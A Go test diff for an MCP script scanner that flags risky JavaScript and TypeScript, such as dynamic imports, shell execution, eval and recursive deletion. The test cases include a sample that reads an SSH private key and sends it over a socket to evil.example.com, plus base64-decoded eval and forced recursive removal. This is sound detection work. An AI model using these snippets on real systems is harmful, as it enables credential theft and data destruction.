@@ -3,6 +3,7 @@ package mcp
 import (
 	"os"
 	"path/filepath"
+	"slices"
 	"testing"
 )
 
@@ -334,3 +335,71 @@ func TestScanScript_GoFile_Skipped(t *testing.T) {
 		t.Errorf("expected no findings for .go file, got %d", len(findings))
 	}
 }
+
+// writeTmpScript creates a temporary script with the given extension.
+func writeTmpScript(t *testing.T, ext, content string) string {
+	t.Helper()
+	path := filepath.Join(t.TempDir(), "server"+ext)
+	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+		t.Fatalf("write temp file: %v", err)
+	}
+	return path
+}
+
+// findingRules returns "rule/severity" for each finding.
+func findingRules(findings []ScanFinding) []string {
+	var rules []string
+	for _, f := range findings {
+		rules = append(rules, f.Rule+"/"+string(f.Severity))
+	}
+	return rules
+}
+
+func TestScanScript_TS_Rules(t *testing.T) {
+	tests := []struct {
+		name    string
+		content string
+		want    string // expected "rule/severity"; "" = clean
+	}{
+		{"literal require", `const { z } = require("zod");` + "\nconst m = await import(`./tools.js`);", ""},
+		{"computed require", `const mod = require(process.argv[2]);`, "dynamic-import/critical"},
+		{"computed import", `const plugin = await import(name);`, "dynamic-import/critical"},
+		{"node: prefix", `import { spawn } from "node:child_process";`, "dangerous-exec/critical"},
+		{"deno command", `const out = await new Deno.Command("sh", { args: ["-c", cmd] }).output();`, "dangerous-exec/critical"},
+		{"string timer", `setTimeout("doEvil()", 10);`, "dynamic-code/critical"},
+		{"vm script", `new vm.Script(code).runInThisContext();`, "dynamic-code/critical"},
+		{"recursive rm", `await fs.rm(dir, { recursive: true, force: true });`, "destructive-fs/critical"},
+		{"rimraf", `import { rimraf } from "rimraf";`, "destructive-fs/critical"},
+		{"unlink", `fs.unlinkSync(tmpFile);`, "file-deletion/warn"},
+		{"raw socket exfil", "const key = readFileSync(home + \"/.ssh/id_rsa\");\nconst s = net.connect(4444, \"evil.example.com\");\ns.write(key);", "potential-exfil/warn"},
+		{"obfuscated", "const src = Buffer.from(payload, \"base64\").toString();\neval(src);", "obfuscated-code/warn"},
+		{"block comment", "/*\n * eval(x) and child_process are mentioned here\n */\nconst ok = 1;", ""},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			findings, err := ScanScript(writeTmpScript(t, ".mjs", tc.content))
+			if err != nil {
+				t.Fatal(err)
+			}
+			rules := findingRules(findings)
+			if tc.want == "" {
+				if len(rules) != 0 {
+					t.Errorf("expected clean scan, got %v", rules)
+				}
+				return
+			}
+			if !slices.Contains(rules, tc.want) {
+				t.Errorf("findings %v do not include %s", rules, tc.want)
+			}
+		})
+	}
+}
+
+func TestScanScript_TS_ModuleExtensions(t *testing.T) {
+	for _, ext := range []string{".mts", ".cts", ".mjs", ".cjs", ".tsx", ".jsx"} {
+		findings, err := ScanScript(writeTmpScript(t, ext, `require("child_process").execSync("id");`))
+		if err != nil || !HasCritical(findings) {
+			t.Errorf("%s: findings = %+v, err = %v", ext, findings, err)
+		}
+	}
+}